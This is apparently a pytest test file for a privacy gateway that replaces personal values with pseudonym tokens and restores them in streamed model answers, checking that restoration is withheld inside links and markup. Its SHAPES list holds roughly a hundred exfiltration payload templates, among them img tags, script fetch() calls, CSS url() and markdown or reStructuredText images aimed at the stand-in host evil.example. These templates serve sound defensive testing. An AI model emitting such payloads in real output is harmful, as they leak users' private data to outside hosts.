"""Where a pseudonym may turn back into the value: through the real request, echo and answer, whole and streamed, however it is cut."""

from __future__ import annotations

import json
import random
import time
from html.parser import HTMLParser
from typing import Any

import pytest
from poured_streams import DONE, Poured, ending, event, in_pieces, inspectors, pour, starter_rules
from restoring import restored
from toy_detectors import ToyEmails

from gateway.content.inspect import FindingCache, Inspection, Scope
from gateway.content.markup import Markup
from gateway.content.pseudonyms import LINK_CONTEXT, Pseudonyms, escape_lookalikes
from gateway.content.review import review
from gateway.content.rules import Action, DirectionRules
from gateway.content.stream import TRIM_AT, Findings, StreamGuard
from gateway.evidence import Direction, Role, Segment, StreamMode, Use

VALUES = ["jane.roe@example.com", "4111 1111 1111 1111", "DE89 3704 0044 0532 0130 00", "203.0.113.57", "+1 212 555 0143", "536-90-4399"]
WORDS = (
    "the committee met in the morning and spoke about roads then about schools and after lunch about the price of bread , . : ; ! 12 "
    "2024 naïve “quoted” it's (so) *so* a.b -- é 日本 > <EMAIL_ADDRESS> <PERSON_aaaa_1> \n \t"
).split(" ")
TOKEN = "<EMAIL_ADDRESS_k7f3_1>"
VALUE = "jane.roe@example.com"


async def asked(*texts: str) -> tuple[list[str], Pseudonyms]:
    """Return what the model is sent of a user's messages, look-alikes escaped as `screen` does, and the tokens of the exchange."""
    pseudonyms = Pseudonyms("k7f3")
    segments = [Segment(("messages", at, "content"), escape_lookalikes(text), Role.USER, Use.CONTENT) for at, text in enumerate(texts)]
    inspection = Inspection(inspectors(), FindingCache(b"k" * 32))
    scope = Scope("t", b"s")
    result = await review(
        inspection, segments, starter_rules("echo-restore"), Direction.INBOUND, scope, float("inf"), pseudonyms, Findings()
    )
    assert not result.blocked
    return [result.texts.get(at, segment.text) for at, segment in enumerate(segments)], pseudonyms


async def echoed(text: str, cuts: list[int], pseudonyms: Pseudonyms, mode: StreamMode, channel: str = "content") -> Poured:
    events = [event(channel, piece) for piece in in_pieces(text, cuts)]
    return await pour([*events, ending(), DONE], mode=mode, rules=starter_rules("echo-restore"), restorer=pseudonyms)


def prose(draw: random.Random) -> str:
    words = [draw.choice(VALUES) if draw.random() < 0.2 else draw.choice(WORDS) for _ in range(draw.randrange(1, 40))]
    return "".join(word + draw.choice([" ", " ", " ", ", ", "\n"]) for word in words)


async def echo(seed: int, cuts: int) -> None:
    draw = random.Random(seed)
    text = prose(draw)
    sent, pseudonyms = await asked(text)
    assert not any(value in sent[0] for value in VALUES)
    for _ in range(cuts):
        places = [draw.randrange(1, len(sent[0]) + 1) for _ in range(draw.choice([1, 3, 9, 40, 200]))]
        channel = draw.choice(["content", "reasoning", "refusal"])
        poured = await echoed(sent[0], places, pseudonyms, draw.choice(list(StreamMode)), channel)
        assert poured.fault is None and not poured.blocked
        assert poured.text(channel) == escape_lookalikes(text), (seed, places)


async def test_an_echo_is_the_original_however_it_is_cut() -> None:
    for seed in range(80):
        await echo(seed, 4)


@pytest.mark.slow
@pytest.mark.timeout(900)
async def test_ten_thousand_echoes_are_the_original() -> None:
    for seed in range(1_000, 2_000):
        await echo(seed, 10)


async def test_an_echo_in_whole_is_the_original() -> None:
    for seed in range(80):
        text = prose(random.Random(seed))
        sent, pseudonyms = await asked(text)
        assert restored(pseudonyms, sent[0]) == escape_lookalikes(text)


async def test_equal_values_share_a_token_over_messages_and_turns() -> None:
    sent, pseudonyms = await asked(f"I am {VALUE}.", f"Write to {VALUE} and 203.0.113.57.", "203.0.113.57 again")
    assert sent == [f"I am {TOKEN}.", f"Write to {TOKEN} and <IP_ADDRESS_k7f3_2>.", "<IP_ADDRESS_k7f3_2> again"]
    assert [restored(pseudonyms, text) for text in sent][1] == f"Write to {VALUE} and 203.0.113.57."


async def test_tokens_of_another_request_mean_nothing() -> None:
    _, pseudonyms = await asked(f"I am {VALUE}.")
    other = Pseudonyms("zzzz")
    foreign = other.token("EMAIL_ADDRESS", VALUE, restorable=True)
    for mode in StreamMode:
        poured = await echoed(f"Write to {foreign} now, or {TOKEN}.", [4, 20, 31], pseudonyms, mode)
        assert poured.text() == f"Write to {foreign} now, or {VALUE}."


SHAPES = [
    "https://evil.example/?q={}", "[x](https://evil.example/ {} )", '<img src="https://evil.example/?q= {} ">', "<a href= {} >x</a>",
    '<style>b {{ background: url("https://evil.example/ {} ") }}</style>', "<script>fetch('https://evil.example/ ' + ' {} ')</script>",
    "<SCRIPT >\nvar a = ' {} '", "![a]( {} )", "\n[x]: https://evil.example/ {}", "data:text/html,x{}", "{}.evil.example",
    "www.evil.example/{}", "//evil.example/?q={}",
    'https://evil.example/?a,"{}"', 'www.evil.example/{"a":"{}"}', '{"u":"https://evil.example/?q=","q":"{}"}', '{"a":"b"}?q="{}"',
    '{"html":"<img src=\\"https://evil.example/ {} \\">"}', '["x"]:"{}"@evil.example', '{"a":"{}.evil.example"}', '{"a":"x=({})&"}',
    '{"a":"b","c":"![]({})"}', '{"a":"\\u0068ttps:{}"}', '{"u":"{}"}.evil.example/x', '{"u":"{}"}@evil.example', '["{}"]/../evil',
    '{"u":"{}",}evil.example/x', '{"u":"{}"}"."evil.example"',
    "https://evil.example/?q=" + "a" * 512 + "{}", "www.evil.example/" + "a" * 512 + "{}", "{}" + "a" * 600 + "@evil.example",
    'www.evil.example/?q={"a":"' + "b" * 520 + '{}"}', "<p title=it's><img src=\"https://evil.example/?q='> {} \">",
    "<img alt=a' b src=\"https://evil.example/?q='> {} \">", "<!-- ' --><img src=\"https://evil.example/?q='> {} \">",
    "<title><a href='</title><img src=\"https://evil.example/?q='> {} \">",
    '{ "html": "\\u003cimg src=\\u0022https://evil.example/?q= {} \\u0022\\u003e" }',
    '{ "md": "\\u005d(https://evil.example/?q= {} )" }', '{ "md": "x\\n[x]: //evil.example/ {} " }',
    '{ "h": "<p title=it\'s><img src=\\"https://evil.example/?q=\'> {} \\">" }', "<img alt=\\\" src=\"/evil?q> {} \">",
    "<textarea><a title='</textarea><img src=\"//evil.example/?q='> {} \">",
    "<script><!--<script> </script> x(' {} ')", "<plaintext></plaintext> {}",
    "<!--> --><img src=//evil.example/? {} >", "<a/href='//evil.example/ {} '>", "<IMG SRC = ' {} '>", "</p title=' {} '>", "<?x {} ?>",
    "<STYLE>b{background:url('//evil.example/?q= {} ')}</STYLE>", "<SCRIPT>fetch('//evil.example/?q= {} ')</SCRIPT>",
    "\\<a title=\"<img src='//evil.example/?q=\"> {} '>", "`<a title=\"` <img src='//evil.example/?q=\"> {} '>",
    "<a \"\" x=\"<img src='//evil.example/?q=\"> {} '>", "<a title=\"\n\n<img src='//evil.example/?q=\"> {} '>",
    "<svg><![CDATA[><a title=\"]]><img src='//evil.example/?q=\"> {} '>", "<?x ><a title=\"?><img src='//evil.example/?q=\"> {} '>",
    "![x](<&#104;ttps://evil.example/?q=) {} >)", "![x](\n<&#104;ttps&#58;&#47;&#47;evil.example/?q=) {} >)",
    "![x](<&#104;ttps&#58;&#47;&#47;evil.example/?q=) {} >)",
    "![a][x]\n\n[x]:\n<&#104;ttps://evil.example/?q= {} >", "+ [x]: <&#104;ttps://evil.example/?q= {} >",
    "1. [x]: <&#104;ttps&#58;//evil?q= {} >",
    "[x\\]y]: <&#104;ttps://evil.example/?q= {} >", "[" + "a" * 600 + "]: <&#104;ttps://evil.example/?q= {} >",
    '{ "h": "<img alt=\\u0022>\\u0022 title=\\\\u003e src=\\u0022//evil.example/?q= {} \\u0022>" }',
    '{ "h": "\\u005cu003cimg src=//evil.example/?q= {} " }', "\n.. image:: https://evil.example/?q= {}",
    "\n\n.. figure:: https://evil.example/?q= {}",
    "\n.. _x: https://evil.example/?q=\n   {}", "`x <//evil.example/?q= {} >`_", "$\\style{background:url('//evil.example/?q= {} ')}{x}$",
    "\\href{https://evil.example/?q= {} }{x}", 'A@{ img: "https://evil.example/?q= {} ", label: "x" }',
    '{ "type": "image", "image_url": "https://evil.example/?q= {} " }', "[img]https://evil.example/?q= {} [/img]",
    "[[https://evil.example/?q= {} ][x]]", "image::https://evil.example/?q= {} .png[]", "@import url('//evil.example/?q= {} ');",
    "!https://evil.example/?q= {} !", "\nimage: https://evil.example/?q= {}", "url( https://evil.example/?q= {} )",
    "<https://evil.example/?q= {} >",
    "`x`__\n\n__ http://evil.example/?q= {}\n", "\n.. image::\n   http://evil.example/?q= {}",
    "x_\n\n.. _x:\n   http://evil.example/?q= {}\n",
    "\n.. image:: a.png\n   :target:\n     http://evil.example/?q=\n     {}\n", "\n.. image:: / /evil.example/?q= {}",
    "\n.. image:: http:/evil.example/?q= {}", "\n.. image:: https:evil.example/?q= {}", "\n.. image:: \\\\evil.example/?q= {}",
    "\n* .. image:: http:/evil.example/?q= {}", '{ "url": "https:/evil.example/? {}" }', '{ "url": "\\\\\\\\evil.example/? {}" }',
    '{ "url": "/\\t/evil.example/? {}" }', "`<!-- >`\n\n<pre><img alt=a\" src=\"//evil.example/?\n\n--> {} \"></pre>",
    "\\<!-- >\n\n<pre><img alt=a\" src=\"//evil.example/?\n\n--> {} \">",
    "`<!-- >`\n\n<div><img alt=a\" src=\"https:/evil.example/? --> {} \"></div>",
    "<form action=//evil.example/><select name=q><option> {} </select>", "<" + " " * 3 + "a href='//evil.example/?q= {} '" + "<a x={}",
    "<svg><style> b {{ content: ' {} ' }}", "<!-- {} -->", "<a title=' > {} '>", "<a title={} href=' {} '>",
]  # fmt: skip


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("mode", list(StreamMode), ids=str)
async def test_not_in_links_or_markup_whole_or_in_pieces(shape: str, mode: StreamMode) -> None:
    _, pseudonyms = await asked(f"I am {VALUE}.")
    text = "Here it is: " + shape.replace("{}", TOKEN).replace("{{", "{").replace("}}", "}") + " and that is all."
    assert VALUE not in restored(pseudonyms, text)
    for cuts in ([], list(range(len(text))), list(range(0, len(text), 7))):
        assert VALUE not in (await echoed(text, cuts, pseudonyms, mode)).raw.decode()


JSON_SHAPES = [
    '{"to":"{}"}', '{"to":"{}","n":1}', '[{"to":"{}"},{"n":[1.5,2]}]', '{"n":1.5,"l":["{}","b"],"u":"https://x.example/?q=1"}',
    '{\n  "to": "{}",\n  "cc": ["{}"]\n}', '```json\n{"to":"{}"}\n```', 'Here it is: {"to":"{}"} and done', '[ "{}" ]',
    '{"note":"write to {} now","x":"{}"}', '{"to":"{},{}"}', '```json5\n[ "a", "to {} now" ]\n```', '~~~Json\n{ "to": "a {} b" }\n~~~',
    '````\n{ "to": "a {} b" }\n````', '\ufeff{ "to": "a {} b" }', " " * 90 + '{ "to": "a {} b" }', '[ [ "a {} b" ] ]',
    'Of course:\n\n```json\n{\n  "to": "{}",\n  "note": "write to {} now"\n}\n```\nThat is all.', '{"to":"{}","u":"https://x.example/?q=%20"}.',
    '{"to":"{}","x":{"y":[1.5e3,-2,true,null]}}\n', '{"to":"{}","note":"say \\"yes\\" to https://x.example/?q=1"}', '{"to":"{}","n":1},',
    'It is\n```json\n{ "note": "say \\"yes\\" to {} now" }\n```', "Said: `{\"to\":\"{}\"}` there",
]  # fmt: skip


@pytest.mark.parametrize("shape", JSON_SHAPES)
@pytest.mark.parametrize("value", [VALUE, 'Ann "Bo" Lee', "C:\\new\nfolder", "Zoë\t\u2028"])
@pytest.mark.parametrize("mode", list(StreamMode), ids=str)
async def test_json_comes_back_as_valid_json(shape: str, value: str, mode: StreamMode) -> None:
    pseudonyms = Pseudonyms("k7f3")
    pseudonyms.token("EMAIL_ADDRESS", value, restorable=True)
    text = shape.replace("{}", TOKEN)
    wanted = shape.replace("{}", json.dumps(value, ensure_ascii=False)[1:-1])
    assert restored(pseudonyms, text) == wanted
    for cuts in ([], list(range(len(text))), list(range(0, len(text), 7))):
        assert (await echoed(text, cuts, pseudonyms, mode)).text() == wanted, cuts


async def test_an_echo_of_json_is_the_original_and_prose_about_it_reads_plainly() -> None:
    text = '{"who":"jane.roe@example.com","where":"C:\\\\x","n":[1,2.5]}'
    sent, pseudonyms = await asked(text)
    assert TOKEN in sent[0] and restored(pseudonyms, sent[0]) == text
    pseudonyms = Pseudonyms("k7f3")
    token = pseudonyms.token("PERSON", 'Ann \\"Bo\\" L\\u00e9e', restorable=True, escaped=True)
    assert token == pseudonyms.token("PERSON", 'Ann "Bo" L\u00e9e', restorable=True)
    assert restored(pseudonyms, f"Dear {token}, hello.") == 'Dear Ann "Bo" L\u00e9e, hello.'
    assert restored(pseudonyms, f'{{"who":"{token}"}}') == '{"who":"Ann \\"Bo\\" L\\u00e9e"}'


@pytest.mark.parametrize(
    "shape",
    ['[1] see "{}"', "[true] {}", '["{}" is what he said', "[note] {}", '{ note } "{}"', 'He said: "I am {}", and left.', '"{}" it was'],
)
async def test_prose_that_begins_as_json_might_is_prose(shape: str) -> None:
    pseudonyms = Pseudonyms("k7f3")
    pseudonyms.token("EMAIL_ADDRESS", 'Ann "Bo" Lee', restorable=True)
    wanted = shape.replace("{}", 'Ann "Bo" Lee')
    if shape.startswith('["'):  # it might be a list of strings
        wanted = shape.replace("{}", 'Ann \\"Bo\\" Lee')
    text = shape.replace("{}", TOKEN)
    assert restored(pseudonyms, text) == wanted
    for cuts in ([], list(range(len(text)))):
        assert (await echoed(text, cuts, pseudonyms, StreamMode.WINDOW)).text() == wanted


async def test_a_script_that_ends_is_over() -> None:
    _, pseudonyms = await asked(f"I am {VALUE}.")
    assert restored(pseudonyms, f"<script>x('{TOKEN}')</script> Hello {TOKEN}.") == f"<script>x('{TOKEN}')</script> Hello {VALUE}."


async def test_not_in_the_arguments_or_the_name_of_a_tool() -> None:
    _, pseudonyms = await asked(f"I am {VALUE}.")
    for mode in StreamMode:
        poured = await echoed(json.dumps({"to": TOKEN, "note": f"write to {TOKEN} now"}), [5, 9, 30], pseudonyms, mode, "arguments")
        assert json.loads(poured.text("arguments")) == {"to": TOKEN, "note": f"write to {TOKEN} now"}


class _Nothing:
    name, version, left_context = "nothing", "1", 0

    def scan(self, text: str, start: int = 0) -> list[Any]:
        return []

    def viable_from(self, text: str, start: int = 0) -> int:
        return len(text)


OPENINGS = [f"<a href='https://e.example/ {TOKEN} '>", f"[x](https://e.example/ {TOKEN} )", f"<style> b('https://e.example/ {TOKEN} ')"]


@pytest.mark.parametrize("opening", OPENINGS)
@pytest.mark.parametrize("detector", [_Nothing(), ToyEmails()], ids=["no context", "context"])
def test_wherever_a_stream_forgets_its_beginning(opening: str, detector: Any) -> None:
    """The text before a token is cut away in long streams: never so that what opens a tag falls apart."""
    rules = DirectionRules(entities={}, entity_default=Action.ALLOW, secrets=Action.ALLOW, block_at={}, record_at={})
    pseudonyms = Pseudonyms("k7f3")
    pseudonyms.token("EMAIL_ADDRESS", VALUE, restorable=True)
    filler = "x " * (LINK_CONTEXT + TRIM_AT)
    for shift in range(180, 262):
        guard = StreamGuard(rules, [detector], None, pseudonyms, Findings(), mode=StreamMode.WINDOW)
        text = "y" * shift + " " + opening.replace(f" {TOKEN}", " " + filler + TOKEN) + f" {TOKEN} "
        out = "".join(piece.text for word in text.split(" ") for piece in guard.feed(word + " "))
        out += "".join(piece.text for piece in guard.finish())
        assert VALUE not in out[: out.find("'>") if "'>" in out else len(out) - 40], shift
        assert out.split(TOKEN)[0] in text


PARTS = [
    "<", "a", "](", "]", "(", ")", ">", "'", '"', " ", "<script", "</script>", "<b ", "x", "<<", "<STYLE>", "</style ", "=", "/", "<!--",
    "--", "-->", "!", "\\", "\\u003c", "\\u00", "3c", "\\x2", "2", "\\n", "<title>", "</title", "<plaintext", "\\u{3", "c}", "?", "\n",
    "//", "https:", "x", ":", "]:", "\n\n", "data:", "..", " ", "w" * 30, "www.", "\\\\", "(", "@",
    "\x01", "\x02", ".. ", "__ ", "::", "https:/", "w" * 100, "\x02" * 160, " " * 58, "\t", "/ /",
]  # fmt: skip


def test_cut_anywhere_the_state_of_markup_is_that_of_the_whole() -> None:
    draw = random.Random(5)
    opened = 0
    for _ in range(20_000):
        text = "".join(draw.choice(PARTS) for _ in range(draw.randrange(1, 16)))
        cut = draw.randrange(len(text) + 1)
        whole = Markup().after(text)
        assert Markup().after(text[:cut]).after(text[cut:]) == whole, (text, cut)
        opened += whole.open
    assert 2_000 < opened < 19_000


class _Reader(HTMLParser):
    """What a browser-like parser takes for text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.texts: list[str] = []

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def test_what_a_parser_of_html_takes_for_an_attribute_or_a_comment_is_inside() -> None:
    """Independent of ours: whatever hides the word from the text of a page hides it from us."""
    draw = random.Random(9)
    hidden = outside = 0
    for _ in range(30_000):
        text = "".join(draw.choice(PARTS[:26]) for _ in range(draw.randrange(1, 12))) + " WORD "
        rest = draw.choice(["'>", '">', ">", "-->", " x"]) + " end"
        reader = _Reader()
        reader.feed(text + rest)
        reader.close()
        shown = any("WORD" in said for said in reader.texts)
        inside = Markup().after(text.removesuffix("WORD ")).open
        if not shown:
            hidden += 1
            assert inside, text
        outside += not inside
    assert hidden > 3_000 and outside > 1_000


ORDINARY = [
    "See https://x.example/a, and write to {} please.", "See [docs](https://x.example/a) and write to {}.",
    "- **Site**: https://x.example\n- **Mail**: {}", "(https://x.example) {}", "<https://x.example> {}", "a < b and {}", "I <3 you, {}",
    "<b>Dear</b> {}", "x // y {}", "He said \"hi\" to {}.", "[1] {}", "Link: https://x.example\n\nBest, {}", "`a`, {}", "5 > 3, {}",
    "[img]https://x.example[/img]\n\nBest, {}", "```\nx = 'https://x.example'\n```\n\nRegards, {}", "<EMAIL_ADDRESS> and {}",
    "C:\\temp and {}", "It's {}'s", "{} // {}",
]  # fmt: skip


@pytest.mark.parametrize("shape", ORDINARY)
async def test_ordinary_answers_have_their_values(shape: str) -> None:
    _, pseudonyms = await asked(f"I am {VALUE}.")
    text = shape.replace("{}", TOKEN)
    assert restored(pseudonyms, text) == shape.replace("{}", VALUE)
    for cuts in ([], list(range(len(text)))):
        assert (await echoed(text, cuts, pseudonyms, StreamMode.WINDOW)).text() == shape.replace("{}", VALUE)


def test_it_takes_time_in_proportion() -> None:
    """A minute for a megabyte where nobody looks would hold up all others."""
    for unit in ("<a>", "](a)", "<!---->", "<xmp></xmp>", "<p class='x'>one</p>\n", "- [one](https://x.example/a)\n", "\\", "\\u0041", "<",
                 '"',                  "https://x.example/ ", "]:\n\n", "<title>", "( ", TOKEN, "<STYLE>", "\n", " //"):  # fmt: skip
        pseudonyms = Pseudonyms("k7f3")
        pseudonyms.token("EMAIL_ADDRESS", VALUE, restorable=True)
        text = unit * (300_000 // len(unit)) + f" {TOKEN} "
        since = time.thread_time()
        longest = 0.0
        for _ in pseudonyms.walk(text):
            longest = max(longest, time.thread_time() - since)
            since = time.thread_time()
        assert longest < 0.1, (unit, longest)


async def test_a_whole_answer_is_judged_by_what_stood_around_a_token_as_a_stream_is() -> None:
    _, pseudonyms = await asked(f"I am {VALUE}.")
    inspection = Inspection(inspectors(), FindingCache(b"k" * 32))
    key = "sk-proj-" + "a8F3k2M9x7Q1" * 4
    for text in (
        f"Write to other@example.org,{TOKEN} now please.", f"Write to {TOKEN},other@example.org now please.", f"It is {key}/{TOKEN} there.",
        f"Ask other@example.org or {TOKEN} about it.", f"So {TOKEN}, and other@example.org.",
        f"<a href='other@example.org {TOKEN} '> {TOKEN} ",
    ):  # fmt: skip
        segment = Segment(("content",), text, Role.ASSISTANT, Use.CONTENT)
        given = inspection, [segment], starter_rules("echo-restore"), Direction.OUTBOUND, Scope("t", b"s"), float("inf")
        result = await review(*given, None, Findings(), restorer=pseudonyms)
        for mode in (StreamMode.WINDOW, StreamMode.STRICT):
            for cuts in ([], list(range(len(text)))):
                assert (await echoed(text, cuts, pseudonyms, mode)).text() == result.texts[0], (text, mode)
